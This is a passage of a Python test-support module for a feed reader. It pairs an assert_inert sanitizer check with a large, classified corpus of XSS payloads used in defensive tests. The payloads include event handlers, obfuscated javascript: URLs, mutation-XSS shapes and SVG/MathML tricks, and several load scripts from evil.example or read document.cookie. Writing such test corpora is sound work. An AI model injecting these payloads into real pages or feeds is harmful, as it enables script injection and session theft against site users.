"""Hostile HTML vectors and `assert_inert`, for any test whose output reaches a feed reader.

HOSTILE_VECTORS covers script tags, event handlers, javascript:/vbscript:/data: URLs with entity,
whitespace, control-character and case obfuscation, SVG and MathML script, CSS expressions,
embeds, forms, meta refresh, <base>, srcset, mutation-XSS shapes, comment and CDATA tricks,
unclosed tags, null bytes and fused tag names. XSS_CORPUS (issue 6) is a larger, classified
corpus (filter evasion, sanitizer-suite cases, mutation XSS, SVG/MathML, URL attributes,
encodings, and generated protocol and event-handler grids); HOSTILE_TEXTS are strings that must
stay text in titles, author names and category labels. `assert_inert(html)` parses a result the
way a reader might (Python's html.parser and lxml) and fails on anything that could run script.
"""

from __future__ import annotations

import html as html_lib
import re
import warnings
from dataclasses import dataclass

from bs4 import BeautifulSoup, MarkupResemblesLocatorWarning, Tag, XMLParsedAsHTMLWarning

HOSTILE_VECTORS: tuple[str, ...] = (
    # script elements
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<script/src="data:text/javascript,alert(1)"></script>',
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">',
    # event handlers
    "<img src=x onerror=alert(1)>",
    '<img src="https://example.org/a.jpg" onload="alert(1)">',
    "<body onload=alert(1)>",
    "<input onfocus=alert(1) autofocus>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    '<a href="https://example.org/" onclick="alert(1)" target=_blank>x</a>',
    "<p id=x class=y onclick=alert(1)>x</p>",
    "<audio src=x onerror=alert(1)>",
    '<video><source onerror="alert(1)"></video>',
    "<frameset onload=alert(1)>",
    "<img src=x onerror=alert(1)",
    # javascript:, vbscript: and data: URLs, obfuscated
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<img src=JaVaScRiPt:alert(1)>",
    '<img src="jav&#x09;ascript:alert(1)">',
    '<img src="jav&#x0A;ascript:alert(1)">',
    '<img src=" javascript:alert(1)">',
    '<img src="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">',
    '<img src="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" &#14; javascript:alert(1)">x</a>',
    '<a href="java\x00script:alert(1)">x</a>',
    '<a href="\x01javascript:alert(1)">x</a>',
    '<a href="jav\tascript:alert(1)">x</a>',
    '<a href="java&Tab;script:alert(1)">x</a>',
    '<a href="java&NewLine;script:alert(1)">x</a>',
    '<a href="jav&#x0D;ascript:alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="javascript&#58alert(1)">x</a>',
    '<a href="  JAVASCRIPT:alert(1)">x</a>',
    '<a href="javas&#99;ript:alert(1)">x</a>',
    '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105'
    '&#0000112&#0000116&#0000058alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    '<blockquote cite="javascript:alert(1)">q</blockquote>',
    '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
    '<img dynsrc="javascript:alert(1)" lowsrc="javascript:alert(1)">',
    # SVG and MathML
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="0" y="20">x</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><set attributeName="href" to="javascript:alert(1)"/></svg>',
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    '<svg><use href="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+"/></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<math href="javascript:alert(1)">x</math>',
    '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
    "<math><style><img src=x onerror=alert(1)></style></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    # CSS
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<div style="width: expression(alert(1));">x</div>',
    '<p style="behavior: url(xss.htc)">x</p>',
    '<img src="https://example.org/a.jpg" style="width:expression(alert(1))">',
    '<a href="https://example.org" style="position:fixed;top:0;left:0">x</a>',
    "<style>@import 'javascript:alert(1)';</style>",
    '<style>body{background:url("javascript:alert(1)")}</style>',
    '<link rel=stylesheet href="javascript:alert(1)">',
    '<link rel="import" href="https://evil.example/x.html">',
    # frames, embeds, forms, document-level tags
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<object type="text/x-scriptlet" data="https://evil.example/x.sct"></object>',
    "<object><param name=src value=javascript:alert(1)></object>",
    '<embed src="javascript:alert(1)">',
    '<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<applet code="x.class"></applet>',
    '<form action="javascript:alert(1)"><input type=submit></form>',
    '<form><button formaction="javascript:alert(1)">x</button></form>',
    "<isindex action=javascript:alert(1) type=submit>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<meta http-equiv="Content-Security-Policy" content="default-src *">',
    '<base href="javascript:alert(1)//">',
    # srcset and picture
    '<img srcset="javascript:alert(1) 1x, https://example.org/a.jpg 2x">',
    '<img srcset="javascript:alert(1)">',
    '<picture><source srcset="javascript:alert(1)"><img src=x onerror=alert(1)></picture>',
    '<img data-src="javascript:alert(1)" src="data:image/gif;base64,R0lGODlhAQABAAAAACw=">',
    '<img src="https://images.weserv.nl/?url=javascript:alert(1)">',
    # mutation XSS, raw-text elements, comments and CDATA
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<noscript><style></noscript><img src=x onerror=alert(1)></style></noscript>",
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    "<![CDATA[<script>alert(1)</script>]]>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<template><img src=x onerror=alert(1)></template>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<title><img src=x onerror=alert(1)></title>",
    '<p>unclosed <b><i><a href="javascript:alert(1)">',
    '<a href="javascript:/*--></title></style></textarea></script><svg/onload=\'+/"/+/'
    "onmouseover=1/+/[*/[]/+alert(1)//'>x</a>",
    # fused tag names and a mirror's renamed links
    "<imgonerror=alert(1) src=x>",
    '<divonmouseover="alert(1)">hover</div>',
    "<aonclick=alert(1) href=#>x</a>",
    '<ok href="javascript:alert(1)">x</ok>',
    '<ok href="java&#x09;script:alert(1)" onclick=alert(1)>x</ok>',
)


def _names(text: str) -> frozenset[str]:
    return frozenset(text.split())


FORBIDDEN_TAGS = _names(
    "script style iframe frame frameset object embed applet svg math form input button "
    "textarea select base meta link noscript template xmp plaintext noembed noframes listing "
    "isindex keygen portal frame layer ilayer bgsound xml dialog"
)
# Attributes that run or load markup (srcdoc, http-equiv), upgrade to a reader page's custom
# element (is), or clobber the reader page's DOM (id, name).
FORBIDDEN_ATTRIBUTES = _names("srcdoc http-equiv is id name")
URL_ATTRIBUTES = _names(
    "href src srcset action formaction poster background cite data xlink:href longdesc "
    "lowsrc dynsrc usemap codebase manifest ping icon"
)
SAFE_SCHEMES = frozenset({"http", "https", "mailto"})
_SCHEME_RE = re.compile(r"^([a-z][a-z0-9+.\-]*):", re.IGNORECASE)
_URL_NOISE_RE = re.compile(r"[\x00-\x20\x7f]")


def assert_inert(html: str) -> None:
    """Fail unless `html`, read by html.parser and by lxml, holds nothing that can run script.

    No script-capable or document-level tag, no on* handler, no style attribute, no attribute
    that loads markup or clobbers the reader's DOM (srcdoc, id, name ...), and every
    URL attribute (each srcset candidate too) uses http, https or mailto once entities are
    decoded and whitespace and control characters removed, as browsers do.
    """
    for parser in ("html.parser", "lxml"):
        with warnings.catch_warnings():
            warnings.simplefilter("ignore", MarkupResemblesLocatorWarning)
            warnings.simplefilter("ignore", XMLParsedAsHTMLWarning)
            soup = BeautifulSoup(html, parser)
        for tag in soup.find_all(True):
            _assert_tag_inert(tag, parser)


def _assert_tag_inert(tag: Tag, parser: str) -> None:
    name = tag.name.lower().rsplit(":", 1)[-1]
    assert name not in FORBIDDEN_TAGS, f"{parser}: forbidden <{tag.name}> in output"
    for key, value in tag.attrs.items():
        key = key.lower()
        text = value if isinstance(value, str) else " ".join(value)
        assert not key.startswith("on"), f"{parser}: handler {key}={text!r} on <{tag.name}>"
        assert key != "style", f"{parser}: style={text!r} on <{tag.name}>"
        assert key not in FORBIDDEN_ATTRIBUTES, f"{parser}: {key}={text!r} on <{tag.name}>"
        if key in URL_ATTRIBUTES:
            for url in _urls(key, text):
                scheme = url_scheme(url)
                assert scheme in SAFE_SCHEMES, f"{parser}: {key}={text!r} on <{tag.name}>"


def _urls(key: str, value: str) -> list[str]:
    if key != "srcset":
        return [value]
    return [candidate.split()[0] for candidate in value.split(",") if candidate.strip()]


def url_scheme(url: str) -> str | None:
    """The scheme a browser would see: entities decoded, whitespace and controls removed."""
    normalized = _URL_NOISE_RE.sub("", html_lib.unescape(url))
    match = _SCHEME_RE.match(normalized)
    return match.group(1).lower() if match else None


# ---------------------------------------------------------------------------------------------
# The XSS corpus (issue 6): more than 300 vectors written for this project, by class.
#
# Modelled on the classes these public lists document (names only; nothing was copied):
#   - OWASP "XSS Filter Evasion Cheat Sheet" (classic filter evasion, RSnake lineage);
#   - PortSwigger "Cross-site scripting (XSS) cheat sheet" (tags x events x encodings);
#   - HTML5 Security Cheatsheet (html5sec.org: SVG, MathML, formaction, srcdoc);
#   - DOMPurify's test fixtures and its published bypass write-ups (mutation XSS, namespace
#     confusion, DOM clobbering);
#   - html5lib's sanitizer tests and the bleach / ammonia test suites (allowlist edge cases,
#     protocol filtering, entity handling);
#   - Heiderich et al., "mXSS Attacks" (CCS 2013) (serialize/re-parse mutations).
#
# Every vector goes through both the seed and the live-feed paths in tests/test_hostile.py.
# ---------------------------------------------------------------------------------------------


@dataclass(frozen=True, slots=True)
class Vector:
    """One hostile body: a stable id (used as the pytest id), its class, and the markup."""

    id: str
    kind: str
    html: str


_EVASION = (  # classic filter evasion, OWASP cheat-sheet style
    "'';!--\"<XSS>=&{()}",
    "<IMG SRC=javascript:alert('XSS')>",
    "<IMG SRC=javascript:alert(&quot;XSS&quot;)>",
    '<IMG SRC=`javascript:alert("it\'s XSS")`>',
    '<a onmouseover="alert(document.cookie)">link</a>',
    "<a onmouseover=alert(document.cookie)>link</a>",
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    "<IMG SRC= onmouseover=\"alert('xxs')\">",
    "<IMG onmouseover=\"alert('xxs')\">",
    '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
    '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114'
    "&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116"
    '&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">',
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;"
    "&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
    "<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105"
    "&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040>",
    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    "<IMG SRC=\"jav\nascript:alert('XSS');\">",
    "<IMG SRC=\"jav\rascript:alert('XSS');\">",
    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
    '<SCRIPT/XSS SRC="https://evil.example/xss.js"></SCRIPT>',
    '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
    '<SCRIPT/SRC="https://evil.example/xss.js"></SCRIPT>',
    '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
    "<SCRIPT SRC=https://evil.example/xss.js?< B >",
    "<SCRIPT SRC=//evil.example/.j>",
    "<IMG SRC=\"`('XSS')\"`",
    "<iframe src=https://evil.example/scriptlet.html <",
    "\\\";alert('XSS');//",
    '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
    '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
    "<IMG LOWSRC=\"javascript:alert('XSS')\">",
    "<BGSOUND SRC=\"javascript:alert('XSS');\">",
    "<BR SIZE=\"&{alert('XSS')}\">",
    '<LINK REL="stylesheet" HREF="https://evil.example/xss.css">',
    "<STYLE>@import'https://evil.example/xss.css';</STYLE>",
    '<META HTTP-EQUIV="Link" Content="<https://evil.example/xss.css>; REL=stylesheet">',
    '<STYLE>BODY{-moz-binding:url("https://evil.example/xssmoz.xml#xss")}</STYLE>',
    "<STYLE>@im\\port'\\ja\\vasc\\ript:alert(\"XSS\")';</STYLE>",
    "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">",
    'exp/*<A STYLE=\'no\\xss:noxss("*//*");xss:ex/*XSS*//*/*/pression(alert("XSS"))\'>',
    "<STYLE TYPE=\"text/javascript\">alert('XSS');</STYLE>",
    "<STYLE>.XSS{background-image:url(\"javascript:alert('XSS')\");}</STYLE><A CLASS=XSS></A>",
    '<STYLE type="text/css">BODY{background:url("javascript:alert(\'XSS\')")}</STYLE>',
    "<XSS STYLE=\"xss:expression(alert('XSS'))\">",
    '<XSS STYLE="behavior: url(xss.htc);">',
    "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
    "<IMG SRC='vbscript:msgbox(\"XSS\")'>",
    '<IMG SRC="livescript:[code]">',
    '<IMG SRC="mocha:[code]">',
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,'
    'PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">',
    '<META HTTP-EQUIV="refresh" CONTENT="0; URL=https://;URL=javascript:alert(\'XSS\');">',
    '<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>',
    "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
    "<TABLE><TD BACKGROUND=\"javascript:alert('XSS')\">",
    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
    "<DIV STYLE=\"background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061\\0073"
    "\\0063\\0072\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028\\0029'\\0029\">",
    "<DIV STYLE=\"background-image: url(&#1;javascript:alert('XSS'))\">",
    '<SCRIPT a=">" SRC="https://evil.example/xss.js"></SCRIPT>',
    '<SCRIPT =">" SRC="https://evil.example/xss.js"></SCRIPT>',
    '<SCRIPT a=">" \'\' SRC="https://evil.example/xss.js"></SCRIPT>',
    '<SCRIPT "a=\'>\'" SRC="https://evil.example/xss.js"></SCRIPT>',
    '<SCRIPT a=`>` SRC="https://evil.example/xss.js"></SCRIPT>',
    '<SCRIPT a=">\'>" SRC="https://evil.example/xss.js"></SCRIPT>',
    '<SCRIPT>document.write("<SCRI");</SCRIPT>PT SRC="https://evil.example/xss.js"></SCRIPT>',
    '<HTML><BODY><?xml:namespace prefix="t" ns="urn:schemas-microsoft-com:time">'
    '<?import namespace="t" implementation="#default#time2"><t:set attributeName="innerHTML" '
    'to="XSS&lt;SCRIPT DEFER&gt;alert(&quot;XSS&quot;)&lt;/SCRIPT&gt;"></BODY></HTML>',
    '<XML ID="xss"><I><B><IMG SRC="javas<!-- -->cript:alert(\'XSS\')"></B></I></XML>'
    '<SPAN DATASRC="#xss" DATAFLD="B" DATAFORMATAS="HTML"></SPAN>',
    "<IMG SRC=\"javascript:alert('XSS')\"",
    "<!--#exec cmd=\"/bin/echo '<SCR'\"--><!--#exec cmd=\"/bin/echo 'IPT SRC="
    "https://evil.example/xss.js></SCRIPT>'\"-->",
    "<? echo('<SCR)'; echo('IPT>alert(\"XSS\")</SCRIPT>'); ?>",
    '<HEAD><META HTTP-EQUIV="CONTENT-TYPE" CONTENT="text/html; charset=UTF-7"> </HEAD>'
    "+ADw-SCRIPT+AD4-alert('XSS');+ADw-/SCRIPT+AD4-",
    '<EMBED SRC="https://evil.example/xss.swf" AllowScriptAccess="always"></EMBED>',
    "<IMG SRC=x:alert(alt) onerror=eval(src) alt=0>",
    "<A HREF=\"javascript:document.location='https://evil.example/'\">XSS</A>",
    "<IMG SRC=\"javascript:alert('XSS')\"><!--",
    "<SCRIPT>a=/XSS/\nalert(a.source)</SCRIPT>",
    "<FRAME SRC=\"javascript:alert('XSS');\"></FRAME>",
    '<LAYER SRC="https://evil.example/scriptlet.html"></LAYER>',
    "<ILAYER SRC=\"javascript:alert('XSS')\"></ILAYER>",
    "<DIV onmouseenter=\"alert('XSS')\">hover</DIV>",
)

_SUITE = (  # sanitizer test-suite style: allowlist edges, clobbering, protocol filtering
    '<a href="&#x6a;avascript:alert(1)">x</a>',
    '<a href="JAVASCRIPT&#x3A;alert(1)">x</a>',
    '<a href="javascript://%0aalert(1)">x</a>',
    '<a href="javascript:alert(1)//https://example.org/">x</a>',
    '<a href="feed:javascript:alert(1)">x</a>',
    '<a href="view-source:javascript:alert(1)">x</a>',
    '<a href="jar:https://evil.example/x.jar!/">x</a>',
    '<a href="file:///etc/passwd">x</a>',
    '<a href="chrome://settings">x</a>',
    '<a href="intent://evil#Intent;scheme=javascript;end">x</a>',
    '<a href="ms-its:mhtml:file://C:/x.mht!https://evil.example/x.chm::/x.htm">x</a>',
    '<a href="res://ieframe.dll/acr_error.htm">x</a>',
    '<a href="about:blank" target="_top">x</a>',
    '<a href="blob:https://example.org/0b6f">x</a>',
    '<a href="filesystem:https://example.org/temporary/x">x</a>',
    '<a href="wyciwyg://0/javascript:alert(1)">x</a>',
    '<a href="x-javascript:alert(1)">x</a>',
    "<a href=\"data:application/xhtml+xml,<x:script xmlns:x='http://www.w3.org/1999/xhtml'>"
    'alert(1)</x:script>">x</a>',
    '<a href="data:text/javascript,alert(1)">x</a>',
    '<a href="DATA:text/html;base64,PHN2Zy9vbmxvYWQ9YWxlcnQoMSk+">x</a>',
    '<a href="http://evil.example/" ping="javascript:alert(1)">x</a>',
    '<a href="https://example.org/" target="_blank" rel="opener">x</a>',
    '<a href="https://example.org/" download="x.html">x</a>',
    "<img src=x name=getElementById>",
    "<img src=x id=location>",
    '<form name="body"><input name="attributes"><input name="attributes"></form>',
    "<a id=defaultView href=x></a><a id=defaultView name=alert href=javascript:alert(1)></a>",
    '<img name="cookie" src="https://example.org/a.jpg">',
    '<a id="__proto__" href="https://example.org/">x</a>',
    '<div id="x" is="x-evil" onload="alert(1)">x</div>',
    '<x-evil onconnected="alert(1)">x</x-evil>',
    '<custom-element href="javascript:alert(1)">x</custom-element>',
    '<x href="javascript:alert(1)">x</x>',
    '<image src="javascript:alert(1)">',
    "<image src=x onerror=alert(1)>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<isindex formaction=javascript:alert(1) type=submit value=x>",
    '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
    '<object classid="clsid:333C7BC4-460F-11D0-BC04-0080C7055A83"><param name=url '
    'value="javascript:alert(1)"></object>',
    "<embed code=javascript:alert(1)></embed>",
    '<portal src="https://evil.example/"></portal>',
    "<dialog open onclose=alert(1)><form method=dialog><button>x</button></form></dialog>",
    '<iframe src="https://evil.example/" sandbox="allow-scripts allow-same-origin"></iframe>',
    '<iframe/src="data:text/html,<svg onload=alert(1)>">',
    '<table><tr><td>x</tr></TABL><a href="javascript:alert(1)">y</a>',
    "<UL><li><A HREF=javascript:alert(1)>click</UL>",
    "<p>x<a href=javascript:alert(1)>y</p>",
    '<a href="https://example.org/" title="x" onfocus="alert(1)" autofocus tabindex=1>x</a>',
    '<p class="x" dir="rtl" lang="en" onmouseover="alert(1)">x</p>',
    '<abbr title="x" onmouseover="alert(1)">x</abbr>',
    '<blockquote cite="javascript:alert(1)" onmouseover="alert(1)">q</blockquote>',
    '<q cite="vbscript:msgbox(1)">q</q>',
    '<del cite="javascript:alert(1)" datetime="x">d</del>',
    '<ins cite="javascript:alert(1)">i</ins>',
    '<ol start="1" type="a" onclick="alert(1)"><li>x</li></ol>',
    '<td background="javascript:alert(1)" colspan="2">x</td>',
    '<th scope="col" onmouseover="alert(1)">x</th>',
    '<img src="https://example.org/a.jpg" width="100" height="100" usemap="#m">'
    '<map name="m"><area shape="rect" coords="0,0,100,100" href="javascript:alert(1)"></map>',
    '<img src="https://example.org/a.jpg" longdesc="javascript:alert(1)">',
    '<img src="https://example.org/a.jpg" alt="x" ismap onclick="alert(1)">',
    '<a href="https://example.org/" formaction="javascript:alert(1)">x</a>',
    "<div data-bind=\"html: '<img src=x onerror=alert(1)>'\">x</div>",
    "<div ng-app>{{constructor.constructor('alert(1)')()}}</div>",
    "<div v-html=\"'<img src=x onerror=alert(1)>'\">x</div>",
    '<a href="https://example.org/" style="color:red;background:url(javascript:alert(1))">x</a>',
    "<b><i><u><s><a href=javascript:alert(1)>deep</a></s></u></i></b>",
    "<a href=https://example.org/><img src=javascript:alert(1)></a>",
    "<applet code=x.class codebase=javascript:alert(1)></applet>",
    '<base target="_blank" href="https://evil.example/"><a href="/x">x</a>',
    '<keygen autofocus onfocus="alert(1)">',
    '<video controls src="https://example.org/a.mp4"><track src="javascript:alert(1)"></video>',
    '<bdo dir="rtl" onclick="alert(1)">x</bdo>',
)

_MUTATION = (  # mutation XSS: content that changes meaning when serialized and re-parsed
    '<noscript><img src=x title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<svg><p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style>'
    '<img src onerror=alert(1)>"></style></h1>',
    '<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>">',
    '<form><math><mtext></form><form><mglyph><svg><mtext><textarea><path id="</textarea>'
    '<img onerror=alert(1) src=1>">',
    '<svg><foreignobject><p><style><p title="</style><iframe onload&#x3d;alert(1)<!--"></style>',
    '<template><s><a title="</template><img src=x onerror=alert(1)>"></s></template>',
    "<template><template><img src onerror=alert(1)></template></template>",
    "<table><form><select><option><img src onerror=alert(1)>",
    "</p><img src=x onerror=alert(1)>",
    "<p></p><img src=x onerror=alert(1)></p>",
    "<p>x</p></p><svg onload=alert(1)>",
    '<a href="https://example.org/"><a href="javascript:alert(1)">nested</a></a>',
    "<table><td><svg><style><img src onerror=alert(1)>",
    '<select><template><style><!--</style><a rel="--></style></template></select>'
    '<img src onerror=alert(1)>">',
    "<style><style/><img src=x onerror=alert(1)>",
    "<textarea></textarea><img src=x onerror=alert(1)>",
    "<iframe><iframe/onload=alert(1)></iframe>",
    '<noembed><img title="</noembed><img src onerror=alert(1)>"></noembed>',
    '<noframes><img title="</noframes><img src onerror=alert(1)>"></noframes>',
    '<xmp><p title="</xmp><img src onerror=alert(1)>"></xmp>',
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    '<a title="&lt;/title&gt;&lt;img src=x onerror=alert(1)&gt;" href="https://e.org/">x</a>',
    '<img alt="<x" title="/><img src=x onerror=alert(1)>">',
    "<!--><img src=x onerror=alert(1)>-->",
    "<!---><img src=x onerror=alert(1)>-->",
    "<!--!><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<? x ><img src=x onerror=alert(1)> ?>",
    "<!x><img src=x onerror=alert(1)>",
    "</x ><img src=x onerror=alert(1)>",
    "</img src=x onerror=alert(1)>",
    '<img src="x` `<script>alert(1)</script>"` `>',
    '<p title="`"><img src=x onerror=alert(1)>">',
    '<div><p title="</div><svg onload=alert(1)>">x</p></div>',
    "<table><caption><svg><style><img src onerror=alert(1)>",
    '<svg><![CDATA[><image xlink:href="]]><img src=xx:x onerror=alert(2)//"></svg>',
    "<math><![CDATA[</math><img src=x onerror=alert(1)>]]>",
    "<svg><title><![CDATA[</title><img src=x onerror=alert(1)>]]></title></svg>",
    "<math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext><style>"
    "<a title=\"</style><img src='#' onerror='alert(1)'>\">",
    "<form id=f><input name=innerHTML></form><svg><style><img src onerror=alert(1)>",
    '<noscript><style></noscript><img src=x onerror="alert(1)">',
    "<p><style></p><img src=x onerror=alert(1)></style>",
    "<object><style></object><img src=x onerror=alert(1)></style>",
    '<frameset><noframes><img title="</noframes><img src onerror=alert(1)>">',
    "<plaintext></plaintext><img src=x onerror=alert(1)>",
    '<textarea title="</textarea><img src=x onerror=alert(1)>"></textarea>',
    "<title>x</title><img src=x onerror=alert(1)>",
    "<h1><h2><svg><style><img src onerror=alert(1)>",
    "<ok><style></ok><img src=x onerror=alert(1)>",
    '<img src="https://example.org/a.jpg" alt="</p><img src=x onerror=alert(1)>">',
    '<a href="https://example.org/" title="</a><img src=x onerror=alert(1)>">x</a>',
    "<pre><svg><style></pre><img src=x onerror=alert(1)>",
    "<dl><dt><svg><style></dt><img src=x onerror=alert(1)>",
)

_SVG_MATH = (  # SVG and MathML: namespaces, animation, xlink
    '<svg><script href="data:,alert(1)"/>',
    "<svg><script xlink:href=data:,alert(1)></script>",
    '<svg><a xlink:href="javascript:alert(1)"><rect width=100 height=100 /></a></svg>',
    '<svg><image href="javascript:alert(1)"/></svg>',
    "<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>",
    "<svg><set onbegin=alert(1) attributename=x dur=1s>",
    "<svg><animatetransform onbegin=alert(1) attributeName=transform>",
    '<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">alert(1)'
    "</handler></svg>",
    '<svg><feImage xlink:href="javascript:alert(1)"/></svg>',
    '<svg><use xlink:href="https://evil.example/x.svg#a"/></svg>',
    "<svg><style>@import url(javascript:alert(1))</style></svg>",
    "<svg><title><img src=x onerror=alert(1)></title></svg>",
    "<svg><desc><![CDATA[</desc><script>alert(1)</script>]]></svg>",
    "<svg><animate attributeName=href from=javascript:alert(1) to=1 /><a><text>x</text></a>",
    "<svg><a><set attributeName=href to=javascript:alert(1)/><text y=20>x</text></a></svg>",
    "<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a></svg>",
    '<svg viewBox="0 0 1 1" onresize=alert(1)>',
    "<svg onmouseover=alert(1) width=100%>",
    "<svg><discard onbegin=alert(1)>",
    "<svg><g/onload=alert(2)//<p>",
    "<svg><script>&#97;lert(1)</script></svg>",
    "<svg><script>alert&#40;1&#41;</script></svg>",
    '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
    "<svg><style>&lt;img src=x onerror=alert(1)&gt;</style></svg>",
    '<svg><a href="javascript:alert(1)"><text x=20 y=20>x</text></a></svg>',
    '<svg><iframe src="javascript:alert(1)"></iframe></svg>',
    '<svg><foreignObject><body onload="alert(1)"></body></foreignObject></svg>',
    "<svg><animate onend=alert(1) attributeName=x dur=1s>",
    '<svg><filter><feImage href="data:image/svg+xml,<svg onload=alert(1)>"/></filter></svg>',
    '<svg><pattern><image xlink:href="javascript:alert(1)"/></pattern></svg>',
    '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml>'
    "</math>",
    '<math><annotation-xml encoding="application/xhtml+xml"><style><img src=x onerror=alert(1)>',
    '<math><semantics><annotation-xml encoding="text/html"><script>alert(1)</script>',
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    '<math xmlns:xlink="http://www.w3.org/1999/xlink"><mrow xlink:type="simple" '
    'xlink:href="javascript:alert(1)">x</mrow></math>',
    '<math><a xlink:href="javascript:alert(1)">click</a></math>',
    "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
    '<math><mglyph src="javascript:alert(1)"></mglyph></math>',
    '<math><maction actiontype="toggle" onclick="alert(1)">x</maction></math>',
    "<math><ms><script>alert(1)</script></ms></math>",
    "<math><mo><svg onload=alert(1)></mo></math>",
    "<math><mi><svg><foreignobject><img src=x onerror=alert(1)>",
)

_ATTRIBUTES = (  # srcset, style, formaction, xlink:href, poster, lazy and proxied images
    '<img srcset="https://example.org/a.jpg 1x, javascript:alert(1) 2x">',
    '<img srcset=",,,javascript:alert(1) 2x">',
    '<img srcset="data:image/svg+xml,<svg/onload=alert(1)> 800w">',
    '<img src="https://example.org/a.jpg" srcset="javascript:alert(1) 1000w">',
    '<img data-srcset="javascript:alert(1) 2000w" src="https://example.org/a.jpg">',
    '<img data-src="vbscript:msgbox(1)">',
    '<img data-original="javascript:alert(1)" src="https://example.org/b.jpg">',
    '<img data-lazy-src="data:text/html,<script>alert(1)</script>">',
    '<picture><source srcset="data:text/html,<script>alert(1)</script> 2x">'
    '<img src="https://example.org/b.jpg"></picture>',
    '<picture><source media="(min-width:1px)" srcset="java&#x09;script:alert(1)"></picture>',
